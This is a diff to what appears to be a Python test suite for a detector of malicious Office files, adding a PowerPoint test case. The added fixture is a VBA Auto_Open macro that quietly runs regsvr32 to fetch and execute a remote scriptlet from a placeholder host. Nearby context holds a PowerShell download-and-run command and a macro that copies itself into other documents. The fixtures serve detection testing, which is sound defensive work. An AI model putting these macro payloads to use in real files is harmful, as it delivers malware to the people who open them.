@@ -173,6 +173,12 @@ Sub Document_Close()
     there.AddFromString me_.Lines(1, me_.CountOfLines)
 End Sub
 """
+_SLIDES = """
+Sub Auto_Open()
+    Dim parts: parts = Split("cmd|/c|regsvr32|/s|/u|/i:http://h.example/s.sct|scrobj.dll", "|")
+    CreateObject("WScript.Shell").Run Join(parts, Space(1)), 0
+End Sub
+"""
 _COMMAND = "cmd /c powershell -c iex(iwr http://d.example/p)"
 
 
@@ -240,6 +246,7 @@ OFFICE_BAD: tuple[Case, ...] = (
         "powershell-downloads",
     ),
     Case("callback.xlsm", "xlsm", lambda: files.xlsm(_CALLBACK), "shell-downloads"),
+    Case("slides.pptm", "pptm", lambda: files.pptm(_SLIDES), "document-starts-shell"),
     Case("infection.docm", "docm", lambda: files.docm(document=_INFECTION), "writes-macros"),
     Case(
         "sheet.xlsm",
